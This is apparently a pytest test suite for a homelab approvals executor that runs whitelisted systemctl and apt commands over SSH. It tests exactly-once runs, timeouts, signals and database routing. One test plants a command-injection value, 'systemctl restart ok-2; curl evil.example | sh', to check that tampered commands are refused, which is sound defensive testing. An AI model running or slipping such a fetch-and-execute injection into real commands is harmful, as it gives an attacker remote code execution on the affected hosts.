"""The executor against a real OpenSSH server: exactly once, results, refusals, ssh's own
failures, timeouts, signals, dead executors, and a HomelabCmd-shaped database.

sshd (tests/sshd_harness.py) runs a forced command that records every command it is sent
and answers by unit name (`fail-*` exits 3, `slow-*` takes a while, `hang-*` never ends in
time, `big-*` prints 25,000 characters, `nul-*` a NUL byte). Executors run as real
processes, on SQLite and on PostgreSQL (`backends`): the claim, heartbeats and outcome
unknown are proven on both."""

from __future__ import annotations

import os
import re
import signal
import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import psycopg
import pytest
from psycopg import sql

from db_targets import DbTarget
from homelab_approvals.domain.execution import OUTPUT_LIMIT
from homelab_approvals.service import ApprovalService
from homelab_approvals.service.executions import ExecutionService
from pg_support import PgServer, PrivateCluster
from sshd_harness import RemoteEnd, running_remote, wait_until
from test_homelabcmd import PG_DDL

pytestmark = [pytest.mark.ssh, pytest.mark.slow, pytest.mark.backends]

DDL = (Path(__file__).parent / "data" / "homelabcmd-schema.sql").read_text(encoding="utf-8")


@pytest.fixture(scope="module")
def remote(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RemoteEnd]:
    with running_remote(tmp_path_factory.mktemp, "executor's") as end:
        yield end


@pytest.fixture
def fresh(remote: RemoteEnd) -> RemoteEnd:
    """The remote end with its record of commands emptied."""
    remote.record.unlink(missing_ok=True)
    return remote


@pytest.fixture
def svc(service: ApprovalService) -> ApprovalService:
    for host in ("exec-host", "exec-wrong-key", "exec-refused"):
        service.add_server(host, host)  # active: actions are approved automatically
    service.add_server("paused", "exec-host", paused=True)
    return service


def executor_argv(db: DbTarget, remote: RemoteEnd, *extra: str) -> list[str]:
    return [
        sys.executable,
        "-m",
        "homelab_approvals",
        *db.cli_args,
        "executor",
        "--ssh-config",
        str(remote.ssh_config),
        *extra,
    ]


def run_once(db: DbTarget, remote: RemoteEnd, *extra: str) -> subprocess.CompletedProcess[str]:
    result = subprocess.run(
        executor_argv(db, remote, "--once", *extra),
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert "Traceback" not in result.stderr, result.stderr
    return result


class Daemon:
    """A long-running executor process; its log goes to a file the test can read."""

    def __init__(self, db: DbTarget, remote: RemoteEnd, log: Path, *extra: str) -> None:
        self.log = log
        self._sink = log.open("w")
        self.process = subprocess.Popen(
            executor_argv(db, remote, *extra),
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=self._sink,
        )
        wait_until(lambda: "started" in self.text(), 30, lambda: f"not started: {self.text()}")

    def text(self) -> str:
        return self.log.read_text(errors="replace")

    def signal(self, signum: int) -> None:
        self.process.send_signal(signum)

    def wait(self, timeout: float = 60) -> int:
        code = self.process.wait(timeout)
        self._sink.close()
        assert "Traceback" not in self.text(), self.text()
        return code

    def kill(self) -> None:
        if self.process.poll() is None:
            self.process.kill()
            self.process.wait()
        self._sink.close()


def row(db: DbTarget, action_id: int) -> dict[str, Any]:
    """The stored row, its times in HomelabCmd's SQLite text form (DbTarget.rows)."""
    (found,) = db.rows("SELECT * FROM remediation_actions WHERE id = :id", id=action_id)
    return found


def events(db: DbTarget, action_id: int) -> list[tuple[Any, ...]]:
    return db.execute(
        "SELECT from_status, to_status, actor FROM action_events WHERE action_id = :id ORDER BY id",
        id=action_id,
    )


def status(db: DbTarget, action_id: int) -> str:
    return str(row(db, action_id)["status"])


def sent(remote: RemoteEnd) -> list[str]:
    return [command for _account, command in remote.commands()]


# -- results -----------------------------------------------------------------------------------


def test_once_runs_each_approved_action_and_records_its_result(
    svc: ApprovalService, db_target: DbTarget, fresh: RemoteEnd
) -> None:
    ok = svc.create_action("exec-host", "restart_service", "ok-1", actor="alice")
    failing = svc.create_action("exec-host", "restart_service", "fail-1", actor="alice")
    apt = svc.create_action("exec-host", "apt_update", actor="alice")
    waiting = svc.create_action("paused", "clear_logs", actor="alice")  # pending: not run

    result = run_once(db_target, fresh, "--name", "exec-a")

    assert result.returncode == 0, result.stderr  # 0 whatever the commands' exit codes
    done = row(db_target, ok.id)
    assert (done["status"], done["exit_code"]) == ("completed", 0)
    assert done["stdout"] == "ran: systemctl restart ok-1\n"
    assert done["stderr"] is None  # empty is stored as NULL
    # HomelabCmd's storage format, so its UI shows our results.
    for column in ("executed_at", "completed_at"):
        assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d\.\d{6}", done[column])
    assert events(db_target, ok.id)[-2:] == [
        ("approved", "executing", "exec-a"),
        ("executing", "completed", "exec-a"),
    ]
    bad = row(db_target, failing.id)
    assert (bad["status"], bad["exit_code"], bad["stdout"]) == ("failed", 3, None)
    assert "Job for failing.service failed" in bad["stderr"]
    assert status(db_target, waiting.id) == "pending"
    # apt gets `sudo -n` (as HomelabCmd does); the command travels as one argument.
    assert sorted(sent(fresh)) == sorted(
        [
            "systemctl restart ok-1",
            "systemctl restart fail-1",
            f"sudo -n {apt.command}",
        ]
    )
    # One log line per transition: id, server, command, result and duration.
    lines = result.stderr.splitlines()
    assert any(f"#{ok.id} on exec-host: executing -> completed (exit 0" in line for line in lines)
    # Nothing claimable is left, and a second run sends nothing again.
    again = run_once(db_target, fresh, "--name", "exec-b")
    assert again.returncode == 0
    assert len(sent(fresh)) == 3


def test_output_over_the_limit_is_cut_and_says_so(
    svc: ApprovalService, db_target: DbTarget, fresh: RemoteEnd
) -> None:
    big = svc.create_action("exec-host", "restart_service", "big-1", actor="alice")
    assert run_once(db_target, fresh).returncode == 0
    stdout = row(db_target, big.id)["stdout"]
    assert len(stdout) <= OUTPUT_LIMIT
    assert stdout.startswith("[output cut: only the last ")
    assert stdout.endswith("x the end\n")  # the end is what is kept


def test_a_nul_byte_in_the_output_is_stored_as_its_picture(
    svc: ApprovalService, db_target: DbTarget, fresh: RemoteEnd
) -> None:
    """PostgreSQL's text cannot hold NUL: the run's result and its live output keep ␀
    in its place (on SQLite too, so both store alike), never a lost result."""
    action = svc.create_action("exec-host", "restart_service", "nul-1", actor="alice")
    result = run_once(db_target, fresh)
    assert result.returncode == 0, result.stderr
    assert "live output stopped" not in result.stderr
    done = row(db_target, action.id)
    assert (done["status"], done["stdout"]) == ("completed", "before\u2400after\n")
    chunks, _ = svc.output_since(action.id)
    assert "".join(c.text for c in chunks) == "before\u2400after\n"


def test_json_log_is_one_object_per_line(
    svc: ApprovalService, db_target: DbTarget, fresh: RemoteEnd
) -> None:
    import json

    action = svc.create_action("exec-host", "restart_service", "ok-json", actor="alice")
    result = run_once(db_target, fresh, "--json")
    records = [json.loads(line) for line in result.stderr.splitlines()]
    done = [r for r in records if r.get("to_status") == "completed"]
    assert len(done) == 1
    assert done[0]["action_id"] == action.id
    assert done[0]["command"] == "systemctl restart ok-json"
    assert done[0]["exit_code"] == 0
    assert isinstance(done[0]["duration_s"], float)


# -- what is never sent -------------------------------------------------------------------------


def test_a_tampered_command_is_not_sent(
    svc: ApprovalService, db_target: DbTarget, fresh: RemoteEnd
) -> None:
    action = svc.create_action("paused", "restart_service", "ok-2", actor="alice")
    # Written straight into the table, as anyone with write access to it could.
    db_target.execute(
        "UPDATE remediation_actions SET command = :command WHERE id = :id",
        command="systemctl restart ok-2; curl evil.example | sh",
        id=action.id,
    )
    svc.approve(action.id, "bob")

    assert run_once(db_target, fresh).returncode == 0

    failed = row(db_target, action.id)
    assert failed["status"] == "failed"
    assert "does not match the whitelist" in failed["stderr"]
    assert sent(fresh) == []


def test_a_command_changed_after_approval_is_not_sent(
    svc: ApprovalService, db_target: DbTarget, fresh: RemoteEnd
) -> None:
    action = svc.create_action("paused", "restart_service", "ok-3", actor="alice")
    svc.approve(action.id, "bob")
    # Still a whitelisted command for its type and unit, but not the one approved.
    db_target.execute(
        "UPDATE remediation_actions SET command = :command, service_name = :unit WHERE id = :id",
        command="systemctl restart ok-other",
        unit="ok-other",
        id=action.id,
    )

    assert run_once(db_target, fresh).returncode == 0

    failed = row(db_target, action.id)
    assert failed["status"] == "failed"
    assert "changed after it was approved" in failed["stderr"]
    assert sent(fresh) == []


# -- ssh's own failures ------------------------------------------------------------------------


def test_ssh_failures_are_failed_actions_in_ssh_s_own_words(
    svc: ApprovalService, db_target: DbTarget, fresh: RemoteEnd
) -> None:
    wrong_key = svc.create_action("exec-wrong-key", "restart_service", "ok-4", actor="alice")
    refused = svc.create_action("exec-refused", "restart_service", "ok-5", actor="alice")

    assert run_once(db_target, fresh).returncode == 0

    key = row(db_target, wrong_key.id)
    assert (key["status"], key["exit_code"]) == ("failed", 255)
    assert "Host key verification failed" in key["stderr"]
    closed = row(db_target, refused.id)
    assert (closed["status"], closed["exit_code"]) == ("failed", 255)
    assert "Connection refused" in closed["stderr"]
    assert sent(fresh) == []  # neither reached the server


def test_a_command_past_its_timeout_is_killed_and_failed(
    svc: ApprovalService, db_target: DbTarget, fresh: RemoteEnd
) -> None:
    action = svc.create_action("exec-host", "restart_service", "hang-1", actor="alice")

    result = run_once(db_target, fresh, "--timeout", "1.5")

    assert result.returncode == 0
    failed = row(db_target, action.id)
    assert (failed["status"], failed["exit_code"]) == ("failed", -1)
    assert failed["stderr"].endswith("timed out after 1.5 s")
    wait_until(
        lambda: not _ssh_clients_for("hang-1"), 10, lambda: "the ssh client outlived its timeout"
    )


def _ssh_clients_for(needle: str) -> list[int]:
    from sshd_harness import processes_matching

    return [pid for pid in processes_matching("ssh", needle) if pid != os.getpid()]


# -- exactly once ------------------------------------------------------------------------------


def test_two_executors_run_each_of_dozens_of_actions_exactly_once(
    svc: ApprovalService, db_target: DbTarget, fresh: RemoteEnd, tmp_path: Path
) -> None:
    first = Daemon(db_target, fresh, tmp_path / "a.log", "--name", "exec-a", "--concurrency", "4")
    second = Daemon(db_target, fresh, tmp_path / "b.log", "--name", "exec-b", "--concurrency", "4")
    try:
        ids = [
            svc.create_action("exec-host", "restart_service", f"ok-many-{n}", actor="alice").id
            for n in range(40)
        ]
        wait_until(
            lambda: all(status(db_target, i) == "completed" for i in ids),
            90,
            lambda: f"not all completed: {[status(db_target, i) for i in ids]}",
        )
        for daemon in (first, second):
            daemon.signal(signal.SIGTERM)
        assert first.wait() == 0
        assert second.wait() == 0
    finally:
        first.kill()
        second.kill()
    commands = sent(fresh)
    assert sorted(commands) == sorted(f"systemctl restart ok-many-{n}" for n in range(40))
    claims = db_target.execute("SELECT action_id, executor FROM executor_claims")
    ((beats,),) = db_target.execute("SELECT count(*) FROM executor_heartbeats")
    assert sorted(a for a, _ in claims) == sorted(ids)
    assert beats == 0  # both stopped cleanly: no heartbeat left behind


# -- signals and dead executors ----------------------------------------------------------------


def test_sigterm_while_idle_exits_0_at_once(
    svc: ApprovalService, db_target: DbTarget, fresh: RemoteEnd, tmp_path: Path
) -> None:
    daemon = Daemon(db_target, fresh, tmp_path / "idle.log")
    try:
        daemon.signal(signal.SIGTERM)
        assert daemon.wait(timeout=10) == 0
    finally:
        daemon.kill()
    assert "stopped" in daemon.text()


def test_sigterm_while_busy_lets_the_run_finish(
    svc: ApprovalService, db_target: DbTarget, fresh: RemoteEnd, tmp_path: Path
) -> None:
    daemon = Daemon(db_target, fresh, tmp_path / "busy.log")
    try:
        action = svc.create_action("exec-host", "restart_service", "slow-1", actor="alice")
        wait_until(lambda: bool(sent(fresh)), 30, lambda: "the command never arrived")
        daemon.signal(signal.SIGTERM)
        # Nothing new is claimed once stopping.
        later = svc.create_action("exec-host", "restart_service", "ok-late", actor="alice")
        assert daemon.wait(timeout=60) == 0
    finally:
        daemon.kill()
    assert status(db_target, action.id) == "completed"
    assert status(db_target, later.id) == "approved"
    assert sent(fresh) == ["systemctl restart slow-1"]


def test_a_second_signal_ends_it_at_once(
    svc: ApprovalService, db_target: DbTarget, fresh: RemoteEnd, tmp_path: Path
) -> None:
    daemon = Daemon(db_target, fresh, tmp_path / "twice.log")
    try:
        action = svc.create_action("exec-host", "restart_service", "slow-2", actor="alice")
        wait_until(lambda: bool(sent(fresh)), 30, lambda: "the command never arrived")
        daemon.signal(signal.SIGTERM)
        wait_until(lambda: "stopping" in daemon.text(), 10, daemon.text)
        daemon.signal(signal.SIGINT)
        assert daemon.wait(timeout=10) == 128 + signal.SIGINT
    finally:
        daemon.kill()
    assert status(db_target, action.id) == "executing"  # until its lease runs out


def test_sigkill_mid_run_ends_outcome_unknown_and_never_reruns(
    svc: ApprovalService, db_target: DbTarget, fresh: RemoteEnd, tmp_path: Path
) -> None:
    daemon = Daemon(db_target, fresh, tmp_path / "killed.log", "--name", "doomed", "--lease", "1")
    try:
        action = svc.create_action("exec-host", "restart_service", "slow-3", actor="alice")
        wait_until(lambda: bool(sent(fresh)), 30, lambda: "the command never arrived")
        daemon.signal(signal.SIGKILL)
        daemon.wait()
    finally:
        daemon.kill()
    assert status(db_target, action.id) == "executing"
    executions = ExecutionService(svc.db)

    def pruned() -> bool:
        executions.prune_stalled("checker")
        return status(db_target, action.id) == "failed"

    wait_until(pruned, 20, lambda: f"still {status(db_target, action.id)}")
    failed = row(db_target, action.id)
    assert failed["stderr"] == "outcome unknown: executor doomed stopped during the run"
    assert events(db_target, action.id)[-1] == ("executing", "failed", "checker")
    assert run_once(db_target, fresh).returncode == 0
    assert sent(fresh) == ["systemctl restart slow-3"]  # never a second time


def test_a_restarted_executor_settles_its_own_earlier_claims(
    svc: ApprovalService, db_target: DbTarget, fresh: RemoteEnd, tmp_path: Path
) -> None:
    """systemd restarts a killed executor under the same name at once, well within its
    old lease: the new process knows the old one's runs are over."""
    daemon = Daemon(db_target, fresh, tmp_path / "first.log", "--name", "same")
    try:
        action = svc.create_action("exec-host", "restart_service", "slow-4", actor="alice")
        wait_until(lambda: bool(sent(fresh)), 30, lambda: "the command never arrived")
        daemon.signal(signal.SIGKILL)
        daemon.wait()
    finally:
        daemon.kill()
    assert run_once(db_target, fresh, "--name", "same").returncode == 0
    failed = row(db_target, action.id)
    assert failed["status"] == "failed"
    assert failed["stderr"] == "outcome unknown: executor same stopped during the run"
    assert sent(fresh) == ["systemctl restart slow-4"]


def test_a_postgresql_restart_mid_run_loses_neither_the_result_nor_the_daemon(
    fresh: RemoteEnd, private_pg: PrivateCluster, tmp_path: Path
) -> None:
    """On a server of the test's own, restarted while a command runs: the result is
    recorded once the server is back (not outcome unknown), and the daemon, its change
    feed reconnected, runs what is approved afterwards."""
    url = private_pg.server.fresh()
    target = DbTarget("postgresql", url=url)
    service = ApprovalService(target.open())
    try:
        service.add_server("exec-host", "exec-host")
        daemon = Daemon(target, fresh, tmp_path / "restart.log", "--name", "exec-r")
        try:
            action = service.create_action("exec-host", "restart_service", "slow-r", actor="al")
            wait_until(lambda: bool(sent(fresh)), 30, lambda: "the command never arrived")
            private_pg.stop()
            private_pg.start()
            wait_until(lambda: service.get_action(action.id).status == "completed", 60, daemon.text)
            after = service.create_action("exec-host", "restart_service", "ok-r", actor="al")
            wait_until(lambda: service.get_action(after.id).status == "completed", 60, daemon.text)
            daemon.signal(signal.SIGTERM)
            assert daemon.wait() == 0
        finally:
            daemon.kill()
        assert "result not recorded" not in daemon.text()
        assert sent(fresh) == ["systemctl restart slow-r", "systemctl restart ok-r"]
        assert service.get_action(action.id).stdout == "restarted after a while\n"
    finally:
        service.db.close()
        target.close()
        private_pg.server.drop_url(url)


# -- a HomelabCmd database ---------------------------------------------------------------------


#: id, hostname, tailscale_hostname, ip_address, ssh_username ("root" logs in as the user
#: the remote end serves: the fixture fills it in).
HOMELAB_SERVERS = [
    ("tail", "nope.invalid", "exec-host", "192.0.2.1", None),
    ("ip", "nope.invalid", None, "exec-host", None),
    ("mallory", "exec-host", None, None, "mallory"),
    ("root", "exec-host", None, None, "root"),
]


@pytest.fixture
def homelab(
    backend: str, fresh: RemoteEnd, tmp_path: Path, request: pytest.FixtureRequest
) -> Iterator[DbTarget]:
    """A HomelabCmd database: its own DDL (on PostgreSQL as its models create it there,
    with the `alerts` table its foreign key needs), servers routed by each of its
    columns, and one action approved through HomelabCmd's own API."""
    server: PgServer | None = None
    if backend == "sqlite":
        target = DbTarget(backend, path=tmp_path / "homelab.db")
        conn = sqlite3.connect(tmp_path / "homelab.db")
        conn.executescript(DDL)
        conn.close()
    else:
        server = request.getfixturevalue("pg_server")
        target = DbTarget(backend, url=server.fresh(empty=True))
        with psycopg.connect(str(target.url)) as pg:
            pg.execute("CREATE TABLE alerts (id SERIAL NOT NULL, PRIMARY KEY (id))")
            pg.execute(PG_DDL)
    for sid, hostname, tailscale, ip, login in HOMELAB_SERVERS:
        target.execute(
            "INSERT INTO servers (id, hostname, tailscale_hostname, ip_address, "
            "ssh_username, machine_type, sudo_mode, status, is_paused, is_inactive, "
            "drift_detection_enabled, created_at, updated_at) VALUES "
            "(:id, :hostname, :tailscale, :ip, :login, 'server', 'passwordless', 'online', "
            ":yes, :no, :yes, '2026-11-01 08:00:00.000000', '2026-11-01 08:00:00.000000')",
            id=sid,
            hostname=hostname,
            tailscale=tailscale,
            ip=ip,
            login=fresh.server.user if sid == "root" else login,
            yes=True,
            no=False,
        )
    # Approved by HomelabCmd's own API: it runs that one itself.
    target.execute(
        "INSERT INTO remediation_actions (id, server_id, action_type, status, "
        "service_name, command, created_at, created_by, approved_at, approved_by) VALUES "
        "(1, 'tail', 'restart_service', 'approved', 'ok-theirs', "
        "'systemctl restart ok-theirs', '2026-11-27 05:02:08.485256', 'dashboard', "
        "'2026-11-27 05:03:00.000000', 'dashboard')"
    )
    if server is not None:  # HomelabCmd's own inserts move the sequence past its ids
        target.execute("SELECT setval(pg_get_serial_sequence('remediation_actions', 'id'), 1)")
    yield target
    target.close()
    if server is not None:
        server.drop_url(str(target.url))


def test_homelabcmd_database_routes_and_logins_and_leaves_its_approvals_alone(
    fresh: RemoteEnd, homelab: DbTarget
) -> None:
    service = ApprovalService(homelab.open())
    try:
        ids = {}
        for sid in ("tail", "ip", "mallory", "root"):
            action = service.create_action(sid, "restart_service", f"ok-{sid}", actor="alice")
            ids[sid] = service.approve(action.id, "bob").id
    finally:
        service.db.close()

    assert run_once(homelab, fresh).returncode == 0

    for sid in ("tail", "ip", "root"):
        assert status(homelab, ids[sid]) == "completed", row(homelab, ids[sid])
    refused = row(homelab, ids["mallory"])
    assert refused["status"] == "failed"
    assert "Permission denied" in refused["stderr"]  # the login was ssh_username's
    assert all(account == fresh.server.user for account, _ in fresh.commands())
    assert sorted(sent(fresh)) == sorted(
        f"systemctl restart ok-{s}" for s in ("tail", "ip", "root")
    )
    theirs = row(homelab, 1)
    assert (theirs["status"], theirs["executed_at"]) == ("approved", None)


# -- refusals before anything runs -------------------------------------------------------------


@pytest.fixture
def unwritable_url(db_target: DbTarget, request: pytest.FixtureRequest) -> Iterator[str]:
    """The test's database as a URL it may read but not write: SQLite's file opened
    read-only (mode=ro), or on PostgreSQL a role granted SELECT alone."""
    if db_target.path is not None:
        yield f"sqlite:///{db_target.path}?mode=ro"
        return
    server: PgServer = request.getfixturevalue("pg_server")
    role = f"approvals_exec_reader_{os.getpid()}"  # roles are the whole cluster's
    database = str(db_target.url).rsplit("/", 1)[1]
    with server.admin() as conn:
        conn.execute(sql.SQL("DROP ROLE IF EXISTS {}").format(sql.Identifier(role)))
        conn.execute(
            sql.SQL("CREATE ROLE {} LOGIN PASSWORD 'reader-secret'").format(sql.Identifier(role))
        )
    with psycopg.connect(str(db_target.url), autocommit=True) as conn:
        conn.execute(
            sql.SQL("GRANT CONNECT ON DATABASE {} TO {}").format(
                sql.Identifier(database), sql.Identifier(role)
            )
        )
        conn.execute(
            sql.SQL("GRANT SELECT ON ALL TABLES IN SCHEMA public TO {}").format(
                sql.Identifier(role)
            )
        )
    try:
        yield server.url_for(database, user=role, password="reader-secret")
    finally:
        with psycopg.connect(str(db_target.url), autocommit=True) as conn:
            conn.execute(sql.SQL("DROP OWNED BY {}").format(sql.Identifier(role)))
        with server.admin() as conn:
            conn.execute(
                sql.SQL("REVOKE ALL ON DATABASE {} FROM {}").format(
                    sql.Identifier(database), sql.Identifier(role)
                )
            )
            conn.execute(sql.SQL("DROP ROLE {}").format(sql.Identifier(role)))


def test_a_database_it_may_not_write_is_one_line_and_a_non_zero_exit(
    svc: ApprovalService, unwritable_url: str, fresh: RemoteEnd
) -> None:
    action = svc.create_action("exec-host", "restart_service", "ok-ro", actor="alice")
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "homelab_approvals",
            "--database-url",
            unwritable_url,
            "executor",
            "--once",
            "--ssh-config",
            str(fresh.ssh_config),
        ],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert result.returncode == 1
    assert result.stderr.count("\n") == 1, result.stderr
    assert "read-only" in result.stderr
    assert "reader-secret" not in result.stderr
    assert svc.get_action(action.id).status == "approved"  # nothing claimed
    assert sent(fresh) == []
